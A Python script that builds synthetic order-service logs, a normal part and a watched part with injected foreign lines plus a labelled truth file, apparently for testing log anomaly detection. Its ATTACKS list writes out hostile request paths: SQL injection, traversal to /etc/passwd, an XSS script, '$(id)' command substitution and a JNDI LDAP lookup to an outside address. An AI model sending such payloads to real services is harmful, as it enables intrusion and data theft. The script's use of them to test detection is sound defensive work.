"""A service's log, made up by chance from a seed: a normal part to learn from, and a later part with foreign lines.

    python scripts/service_log.py build/service-log [--seed 1] [--lines 9000] [--watched 4000]

writes `normal.log`, `watched.log`, which goes on where that ends and has foreign lines in it, and `truth.jsonl`: for
every foreign line of `watched.log` its number and its kind. A service of orders takes requests at a rate that changes
with the hour; each leaves lines of several parts of it (api, auth, cache, db), with an id that they share. Some
requests fail, some are slow, jobs run every ten minutes, and now and then a part says something rare: all that is
normal. The log is of a day and a half, so that no hour is new, and its stamps have no date: one that has never been
there before would be foreign in every line. Foreign are

- `trace`: the lines of a stack trace, of Python or Java, behind an error,
- `other`: a line of another service: nginx, syslog, PostgreSQL, a kernel,
- `attack`: a request whose path holds SQL, a way up out of the folder, a script, a look-up by JNDI, a command,
- `value`: a line of the right form with a value that never occurs in its field: a status, a time, an address, a level.
"""

from __future__ import annotations

import argparse
import json
import math
import random
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from urllib.parse import quote

from charrnn.files.atomic import make_folder, write_text

BEGIN = datetime(2026, 3, 2, tzinfo=UTC)
KINDS = {"trace": 1, "other": 3, "attack": 3, "value": 3}
"""What an event may be, and how often it is beside the others: a stack trace has several lines."""
EVERY = timedelta(minutes=10)
"""How often jobs run."""

FOREIGN_EVENTS = 15  # per thousand lines

PATHS = (
    "/api/v1/orders/{order}",
    "/api/v1/orders?page={page}&limit=20",
    "/api/v1/users/u{user}/orders",
    "/api/v1/items/{item}",
    "/api/v1/items/{item}/pictures/{page}.jpg?w=320",
    "/api/v1/search?q={words}&page={page}",
    "/api/v1/cart",
    "/health",
)
WORDS = (
    "red shoes wool socks children's coat size 42 blue jeans 100% cotton raincoat hiking boots scarf men's belt <3 "
    "gift card & wrap winter hat gloves (leather) summer dress; silk tie black/white shirt select brand union jack or "
    "and from"
)
CHATTER = (
    "config reloaded keys={n}",
    "connection pool grew to {page}",
    "connection pool shrank to {page}",
    "retrying payment provider attempt={page}",
    "payment provider answered after {n}ms",
    "certificate expires in {page} days",
    "disk /var/lib/orders at {page}0%",
    "queue depth {n} above target",
    "feature flag new_checkout=on share={page}0%",
    "deployed version 1.{page}.{n}",
    "worker {page} stopped after {n} requests",
    "worker {page} started pid={order}",
    "clock moved by {page}ms",
    "rate limit near for u{user} ({n}/1000)",
    "dropped {page} metrics: buffer full",
    "slow gc pause {n}ms heap=512MB",
    "mail to u{user}@example.org bounced: mailbox full",
    "image {item} has no thumbnail, making one",
    "stock of item {item} below {page}",
    "order {order} was changed twice, keeping the later one",
)
"""What the parts say now and then, the first far oftener than the last: what is rare is not foreign."""
ATTACKS = (
    "/api/v1/orders/{order}%20or%201%3D1",
    "/api/v1/orders?page={page};select%20from%20users&limit=20",
    "/api/v1/search?q=shoes%27%20union%20select%20password%20from%20users--&page=1",
    "/api/v1/items/../../../../etc/passwd",
    "/api/v1/items/{item}/pictures/..%2F..%2F..%2Fconfig.jpg?w=320",
    "/api/v1/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E&page=1",
    "/api/v1/users/$(id)/orders",
    "/api/v1/search?q=jndi:ldap:%2F%2F198.51.100.7%2Fa&page={page}",
    "/api/v1/cart?debug=true",
    "/wp-login.php",
)
TRACES = (
    (
        "Traceback (most recent call last):",
        '  File "/srv/orders/handlers.py", line {n}, in get_order',
        "    row = cursor.fetchone()[0]",
        "TypeError: 'NoneType' object is not subscriptable",
    ),
    (
        'Exception in thread "worker-{n}" java.lang.NullPointerException',
        "\tat com.example.orders.OrderService.find(OrderService.java:{n})",
        "\tat com.example.orders.OrderController.get(OrderController.java:71)",
        "\t... 14 more",
    ),
)
OTHERS = (
    '192.0.2.{b} - - [{clf}] "GET /index.html HTTP/1.1" 304 0 "-" "Mozilla/5.0"',
    "{syslog} web3 sshd[{n}]: Failed password for root from 203.0.113.{b} port {n} ssh2",
    "{syslog} web3 kernel: [{n}.{b}] Out of memory: Killed process {n} (java)",
    "{day} UTC [{n}] ERROR:  deadlock detected at character {b}",
    "I{klog} {n} controller.go:{b}] Starting workers",
)


class Service:
    """The service and its clock.

    Args:
        seed: what all chance is derived from.
    """

    def __init__(self, seed: int) -> None:
        self._random = random.Random(seed)
        self._now = BEGIN
        self._jobs_ran = BEGIN

    def lines(self) -> Iterator[str]:
        """Its normal log, without an end."""
        while True:
            hour = self._now.hour + self._now.minute / 60
            rate = 0.045 + 0.03 * math.sin((hour - 9) / 24 * 2 * math.pi)  # requests per second
            self._pass(self._random.expovariate(rate))
            if self._now - self._jobs_ran >= EVERY:
                self._jobs_ran = self._now
                yield from self._job()
            if self._random.random() < 0.04:
                yield self._chatter()
            yield from self._request()

    def _chatter(self) -> str:
        message = self._random.choices(CHATTER, [1 / (1 + place) for place in range(len(CHATTER))])[0]
        level = self._random.choices(("INFO", "WARN"), (3, 1))[0]
        return self.line(level, self._random.choice(("api", "jobs", "db")), self.path(message))

    def _pass(self, seconds: float) -> None:
        self._now += timedelta(seconds=seconds)

    def line(self, level: str, part: str, rest: str) -> str:
        """A line of its log at the present time."""
        stamp = self._now.strftime("%H:%M:%S.") + f"{self._now.microsecond // 1000:03d}"
        return f"{stamp} {level:<5} {part:<5} {rest}"

    def path(self, pattern: str) -> str:
        """A path with numbers in it."""
        take = self._random.randint
        query = quote(" ".join(self._random.choices(WORDS.split(), k=take(1, 4))))
        numbers = {"order": take(40000, 52000), "page": take(1, 9), "user": take(1000, 1399), "item": take(100, 899)}
        return pattern.format(words=query, n=take(10, 999), **numbers)

    def access(
        self, path: str, status: object, took: object, method: str = "GET", request: str = "", slow: bool = False
    ) -> str:
        """What the api says of a request."""
        said = (
            f"req={request or self.request_id()} {method} {path} {status} {took}ms {self._random.randint(180, 4200)}B"
        )
        return self.line("WARN", "api", f"{said} slow") if slow else self.line("INFO", "api", said)

    def request_id(self) -> str:
        """Eight hexadecimal digits."""
        return f"{self._random.getrandbits(32):08x}"

    def _request(self) -> Iterator[str]:
        chance, request = self._random.random(), self.request_id()
        user, order = self._random.randint(1000, 1399), self._random.randint(40000, 52000)
        took = max(1, round(self._random.lognormvariate(3.2, 0.5)))
        if chance < 0.12:
            yield self._login(user)
            return
        if chance < 0.55:
            hit = self._random.random() < 0.7
            yield self.line("DEBUG", "cache", f"req={request} {'hit' if hit else 'miss'} key=order:{order}")
            if not hit:
                self._pass(0.002)
                rows = int(self._random.random() < 0.97)
                yield self.line("DEBUG", "db", f"req={request} query=select_order rows={rows} took={took}ms")
        self._pass(took / 1000)
        yield self._answer(request, took)

    def _answer(self, request: str, took: int) -> str:
        path = self.path(self._random.choice(PATHS))
        method = self._random.choice(("POST", "DELETE", "GET")) if path.endswith("cart") else "GET"
        status = self._random.choices((200, 304, 404, 500), (90, 6, 3, 1))[0]
        if status == 500:
            return self.line(
                "ERROR", "api", f"req={request} {method} {path} 500 {took}ms upstream timeout, retry in 5s"
            )
        return self.access(path, status, took, method, request, slow=took > 80)

    def _login(self, user: int) -> str:
        address = f"10.{self._random.randint(0, 3)}.{self._random.randint(0, 255)}.{self._random.randint(1, 254)}"
        if self._random.random() < 0.06:
            return self.line("WARN", "auth", f"user=u{user} login failed reason=password ip={address}")
        return self.line("INFO", "auth", f"user=u{user} login ok ip={address}")

    def _job(self) -> Iterator[str]:
        job = self._random.choice(("expire_carts", "send_invoices", "refresh_stock"))
        yield self.line("INFO", "jobs", f"job={job} started")
        self._pass(self._random.uniform(0.05, 0.4))
        yield self.line("INFO", "jobs", f"job={job} done items={self._random.randint(0, 60)}")

    def foreign(self, kind: str) -> list[str]:
        """The lines of a foreign event."""
        if kind == "trace":
            number = self._random.randint(20, 480)
            return [line.format(n=number) for line in self._random.choice(TRACES)]
        if kind == "other":
            return [self._other()]
        if kind == "attack":
            path = self.path(self._random.choice(ATTACKS))
            return [self.access(path, self._random.choice((200, 404)), self._random.randint(8, 60))]
        return [self._wrong_value()]

    def _other(self) -> str:
        stamps = {
            "clf": "%d/%b/%Y:%H:%M:%S +0000",
            "syslog": "%b %d %H:%M:%S",
            "day": "%Y-%m-%d %H:%M:%S.%f",
            "klog": "",
        }
        times = {name: self._now.strftime(form) for name, form in stamps.items()}
        times["klog"] = self._now.strftime("%m%d %H:%M:%S.%f")
        numbers = {"n": self._random.randint(1000, 64000), "b": self._random.randint(2, 250)}
        return self._random.choice(OTHERS).format(**times, **numbers)

    def _wrong_value(self) -> str:
        path, user = self.path(PATHS[0]), self._random.randint(1000, 1399)
        address = f"{self._random.randint(1, 250)}.{self._random.randint(1, 254)}"
        wrong = (
            self.access(path, self._random.choice((418, 777, 0)), 30),
            self.access(path, 200, self._random.choice((-5, 98765432, "NaN"))),
            self.access(path, 200, 31, self._random.choice(("TRACE", "PUT", "get"))),
            self.access(self.path("/api/v1/orders/{page}"), 200, 22),
            self.access("/api/v1/users/u0/orders", 200, 19),
            self.line("INFO", "auth", f"user=root login ok ip=10.1.{address}"),
            self.line("INFO", "auth", f"user=u{user} login ok ip=185.220.{address}"),
            self.line("FATAL", "db", f"req={self.request_id()} query=select_order rows=0 took=3ms"),
            self.line("DEBUG", "db", f"req={self.request_id()} query=select_order rows=12000 took=3ms"),
            self.line("INFO", "jobs", "job=mine_coins started"),
            self.line("DEBUG", "cache", f"req=undefined hit key=order:{self._random.randint(40000, 52000)}"),
        )
        return self._random.choice(wrong)


def write(folder: Path, seed: int, lines: int, watched: int) -> None:
    """Write the three files."""
    service, chance = Service(seed), random.Random(f"where, {seed}")
    log = service.lines()
    normal = [next(log) for _ in range(lines)]
    later: list[str] = []
    truth: list[dict[str, object]] = []
    while len(later) < watched:
        later.append(next(log))
        if chance.random() < FOREIGN_EVENTS / 1000:
            (kind,) = chance.choices(list(KINDS), list(KINDS.values()))
            for line in service.foreign(kind):
                later.append(line)
                truth.append({"line": len(later), "kind": kind})
    make_folder(folder)
    for name, text in (("normal.log", normal), ("watched.log", later), ("truth.jsonl", map(json.dumps, truth))):
        write_text(folder / name, "".join(f"{line}\n" for line in text))


def main(arguments: list[str] | None = None) -> None:
    parser = argparse.ArgumentParser(description=(__doc__ or "").split("\n")[0])
    parser.add_argument("folder", type=Path)
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--lines", type=int, default=9000, help="lines of normal.log")
    parser.add_argument("--watched", type=int, default=4000, help="lines of watched.log")
    given = parser.parse_args(arguments)
    write(given.folder, given.seed, given.lines, given.watched)


if __name__ == "__main__":
    main()
